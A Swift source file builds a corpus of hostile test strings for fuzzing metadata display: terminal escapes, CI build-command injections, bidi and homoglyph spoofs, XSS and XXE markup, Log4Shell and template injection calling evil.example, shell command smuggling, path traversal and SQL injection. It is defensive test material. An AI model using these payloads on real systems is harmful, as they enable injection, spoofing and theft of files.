/// Texts that have no business in a metadata document, and must do no harm wherever they are shown: in bytes, for some of
/// them are no text at all.
public struct NaughtyString: Sendable {
  /// What it tries to be.
  public let kind: String
  /// The text, or what passes for one.
  public let bytes: [UInt8]

  /// The text as a program has it that reads bytes as UTF-8.
  public var text: String { String(decoding: bytes, as: UTF8.self) }

  /// All of them, in a fixed order; none stands twice.
  public static let all: [NaughtyString] = {
    var seen: Set<[UInt8]> = []
    return (controls + sequences + unseen + scripts + commands + markup + templates + malformed + long)
      .filter { seen.insert($0.bytes).inserted }
  }()

  private init(_ kind: String, _ text: String) { self.init(kind, Array(text.utf8)) }

  private init(_ kind: String, _ bytes: [UInt8]) {
    self.kind = kind
    self.bytes = bytes
  }

  private static func scalars(_ kind: String, _ ranges: [ClosedRange<UInt32>]) -> [NaughtyString] {
    ranges.joined().compactMap(Unicode.Scalar.init).map { NaughtyString(kind, "a\(Character($0))b") }
  }

  private static func lines(_ kind: String, _ text: String) -> [NaughtyString] {
    text.split(separator: "\n").map { NaughtyString(kind, String($0)) }
  }

  // MARK: What a terminal obeys

  private static let controls = scalars("C0", [0x00...0x1F, 0x7F...0x7F]) + scalars("C1", [0x80...0x9F])

  private static let sequences: [NaughtyString] = {
    let bodies = [
      "[31mred", "[1;5;41mblink", "[2J", "[H", "[1A[2K", "[6n", "[21t", "[?1049h", "[?25l", "[3J", "[9999;9999H",
      "[20l",
      "]0;title\u{7}", "]2;title\u{1B}\\", "]8;;https://evil.example/\u{1B}\\link\u{1B}]8;;\u{1B}\\",
      "]52;c;aGVsbG8=\u{7}",
      "]4;1;rgb:ff/00/00\u{7}", "]10;?\u{7}", "]11;?\u{1B}\\", "]1337;File=:AAAA\u{7}", "]9;notify\u{7}",
      "]777;notify;a;b\u{7}",
      "P$q\"p\u{1B}\\", "P+q544e\u{1B}\\", "_Gf=24;AAAA\u{1B}\\", "^private\u{1B}\\", "Xstart\u{1B}\\", "c", "(0", ")0",
      "#8", "7",
      "8", "=", ">", "N", "O", "Z",
    ]
    let eightBit = ["\u{9B}31m", "\u{9B}2J", "\u{9D}0;title\u{9C}", "\u{90}q\u{9C}", "\u{9F}x\u{9C}", "\u{9E}x\u{9C}"]
    let overwriting = [
      "visible\rhidden", "abc\u{8}\u{8}\u{8}xyz", "page\u{C}feed", "line\u{B}tab", "bell\u{7}", "cut\u{0}off",
    ]
    return bodies.map { NaughtyString("escape sequence", "x\u{1B}\($0)") }
      + (eightBit + overwriting).map { NaughtyString("escape sequence", $0) }
  }()

  // MARK: What an eye does not see, or sees wrongly

  private static let unseen =
    scalars("invisible", [0xA0...0xA0, 0xAD...0xAD, 0x34F...0x34F, 0x61C...0x61C, 0x115F...0x1160, 0x17B4...0x17B5])
    + scalars("invisible", [0x180B...0x180F, 0x2000...0x200F, 0x2028...0x202F, 0x205F...0x206F, 0x3164...0x3164])
    + scalars("invisible", [0xFE00...0xFE0F, 0xFEFF...0xFEFF, 0xFFA0...0xFFA0, 0xFFF9...0xFFFD, 0xE0001...0xE0001])
    + scalars("invisible", [0xE0020...0xE0027, 0xE007F...0xE007F, 0x2800...0x2800, 0x3000...0x3000, 0xE000...0xE001])
    + scalars("noncharacter", [0xFDD0...0xFDD7, 0xFFFE...0xFFFF, 0x1FFFE...0x1FFFF, 0x10FFFE...0x10FFFF])
    + lines(
      "direction",
      """
      \u{202E}lmx.pdi
      idp\u{202D}\u{202E}moc.live\u{202C}.example
      \u{2066}\u{2067}\u{2068}nested\u{2069}
      https://idp.example/\u{200F}\u{5D0}\u{5D1}
      a\u{202E}\u{2066}// end\u{2069}\u{2066}begin
      """)

  private static let scripts =
    lines(
      "script",
      """
      \u{5E9}\u{5DC}\u{5D5}\u{5DD} \u{5E2}\u{5D5}\u{5DC}\u{5DD}
      \u{645}\u{631}\u{62D}\u{628}\u{627} \u{628}\u{627}\u{644}\u{639}\u{627}\u{644}\u{645}
      \u{7F72}\u{540D}\u{306E}\u{9375}
      \u{FF21}\u{FF37}\u{FF33}
      \u{430}ws.\u{430}m\u{430}zon.com
      xn--ws-7kc.example
      \u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}\u{200D}\u{1F466}
      \u{1F1E9}\u{1F1EA}\u{1F1E9}
      \u{1F44D}\u{1F3FF}
      \u{130}\u{131}\u{DF}\u{1E9E}\u{FB01}
      \u{1D400}\u{1D401}\u{1D402}
      \u{FDFD}
      \u{E33}\u{E4D}\u{E33}
      \u{301}without a base
      """)
    + [1, 4, 5, 40, 400].map { NaughtyString("stack", "Z" + String(repeating: "\u{334}\u{318}\u{30D}", count: $0)) }

  // MARK: What a build server obeys

  private static let commands: [NaughtyString] = {
    let github = [
      "error", "warning", "notice", "debug", "group", "endgroup", "add-mask", "add-path", "set-env", "set-output",
      "save-state", "stop-commands", "echo", "add-matcher",
    ]
    let before = ["", "  ", "\t", "\n", "\r", "\r\n", "x\n", "\u{2028}", "%0A", "\u{3000}", "\u{85}"]
    let second = github.flatMap { name in before.map { "\($0)::\(name) name=A,file=b::owned" } }
    let first = github.flatMap { name in ["##[\(name)]owned", "text ##[\(name) name=A;file=b]owned", "\n##[\(name)]x"] }
    let others = [
      "##vso[task.setvariable variable=a]b", "x ##vso[task.complete result=Succeeded;]DONE",
      "##teamcity[buildStatus status='SUCCESS']", "x##teamcity[testStarted name='a|'b']",
      "section_start:1:a[collapsed=true]\rb",
      "section_end:1:a\r\u{1B}[0K", "::error", "::", ":::", "::::", "::error::", ":: error::x", "::ERROR::x",
      "::error file=%0A::x",
      "a,line=1::b", "a%0A::error::b", "a%2Cline=1", "a%25%0Ab", "%", "%%", "%0", "%0D%0A", "%3A%3A", "##", "##[",
      "##[]", "#[x]",
      "# #[x]", "###[error]x", "##ERROR[x]", "::stop-commands::token\n::token::", "::set-output name=x::y",
      "::warning::\u{0}",
      "echo \"x=y\" >> $GITHUB_ENV", "[command]/bin/sh", "Error: process completed", "\n\n\n", "\r\n\r\n", "\n\r",
      "a\rb\nc\r\nd",
    ]
    return (second + first + others).map { NaughtyString("build server", $0) }
  }()

  // MARK: What a renderer or a reader of a format obeys

  private static let markup =
    lines(
      "Markdown",
      """
      | a | b |
      a|b|c||d
      \\|
      \\\\|
      \\\\\\|x
      a\\
      `code`
      ``a`b``
      ```
      ~~~
      ` | `
      *a* **b** _c_ __d__ ~~e~~
      # heading
      ====
      ---
      - [x] done
      1. one
      > quotation
      [text](https://evil.example/)
      [text](javascript:alert)
      ![image](https://evil.example/track.png)
      [text][ref]
      [ref]: https://evil.example/
      <https://evil.example/>
      https://evil.example/
      www.evil.example
      mail@evil.example
      @everyone
      @org/team
      #1
      org/project#1
      GH-1
      0123456789abcdef0123456789abcdef01234567
      :rocket:
      $x$
      $$x$$
      [^1]
      <details><summary>x</summary>
      &lt;b&gt;
      &#x41;
      a<br>b
      | --- | --- |
      [a](1)
      [a\\](1)
      [a\\\\](1)
      {0}
      {{0}}
      }{
      """)
    + lines(
      "HTML or XML",
      """
      <script>alert(1)</script>
      <img src=x onerror=alert(1)>
      <svg onload=alert(1)>
      "><script>alert(1)</script>
      ' onmouseover='alert(1)
      " autofocus onfocus="alert(1)
      <a href="javascript:alert(1)">x</a>
      <style>*{display:none}</style>
      <!-- comment
      -->
      --!>
      <!--><b>
      ]]>
      <![CDATA[x]]>
      ]]]]><![CDATA[>
      <?xml version="1.0"?>
      <?php echo 1 ?>
      <!DOCTYPE x [<!ENTITY a "b">]>
      <!ENTITY x SYSTEM "file:///etc/passwd">
      &x;
      &amp;
      &amp;lt;
      &
      &#0;
      &#xD800;
      &#xFFFE;
      &#x1F;
      &#99999999;
      </failure></testcase>
      </testsuite><testsuite name="x" tests="0">
      <system-out>x</system-out>
      </md:EntityDescriptor>
      <x:include href="/etc/passwd"/>
      a" b="c
      a' b='c
      <
      >
      "
      '
      <<>>
      <iframe src="https://evil.example/">
      <base href="https://evil.example/">
      <form action="https://evil.example/">
      <meta http-equiv="refresh" content="0">
      <template><style><!--</style><a title="--><img src=1>">
      """)

  private static let templates =
    lines(
      "template, shell or format",
      """
      {{7*7}}
      ${7*7}
      ${{ secrets.GITHUB_TOKEN }}
      ${{ github.event.issue.title }}
      #{7*7}
      <%= 7*7 %>
      {% raw %}
      *{7*7}
      @(7*7)
      ${jndi:ldap://evil.example/a}
      \\(name)
      %s%s%s%n
      %x%x%x
      %1$s
      %@
      %d
      {}
      {:?}
      {0:>999999}
      $(touch /tmp/x)
      `touch /tmp/x`
      ; touch /tmp/x
      && touch /tmp/x
      | touch /tmp/x
      > /tmp/x
      $HOME
      ~root
      !!
      $'\\n'
      *
      ?
      -rf
      --output=/tmp/x
      ../../../../etc/passwd
      /etc/passwd
      ./idp.xml
      .//a/./b
      a:3:4
      file:///etc/passwd
      C:\\Windows\\system.ini
      \\\\host\\share
      =1+1
      +1
      @SUM(A1)
      '; DROP TABLE users; --
      ' OR '1'='1
      null
      undefined
      NaN
      -1
      1e999
      0x7FFFFFFF
      true
      __proto__
      constructor
      \\u0000
      \\ud800
      \\udfff\\ud800
      \\x1b[31m
      \\u{202E}
      \\n::error::x
      "},{"rule":"x
      \\"},{\\"a\\":\\"
      \\
      //
      /*
      """)

  // MARK: What is no text, and what is too much of it

  private static let malformed: [NaughtyString] = {
    let bytes: [[UInt8]] = [
      [0x80], [0xBF], [0xC0, 0x80], [0xC1, 0xBF], [0xC2], [0xE0, 0x80, 0xAF], [0xE2, 0x82], [0xED, 0xA0, 0x80],
      [0xED, 0xBF, 0xBF], [0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80], [0xF0, 0x80, 0x80, 0xAF], [0xF0, 0x9F],
      [0xF4, 0x90, 0x80, 0x80],
      [0xF5, 0x80, 0x80, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80], [0xFC, 0x84, 0x80, 0x80, 0x80, 0x80], [0xFE], [0xFF],
      [0xFE, 0xFF], [0xFF, 0xFE], [0xC3, 0x28], [0xE2, 0x28, 0xA1], [0xE2, 0x82, 0x28], [0xF0, 0x28, 0x8C, 0xBC],
      [0xFF, 0x3A, 0x3A, 0x65, 0x72, 0x72, 0x6F, 0x72, 0x3A, 0x3A, 0x78], [0xC2, 0x0A, 0x3A, 0x3A],
      [0x9B, 0x33, 0x31, 0x6D],
    ]
    return bytes.map { NaughtyString("no UTF-8", [0x61] + $0 + [0x62]) }
  }()

  private static let long: [NaughtyString] = ["x", "::error::", "\n", "|", "`", "<b>", "\u{202E}", "%0A", "署", " "].map
  {
    NaughtyString("long", String(repeating: $0, count: 3_000 / $0.utf8.count))
  }
}
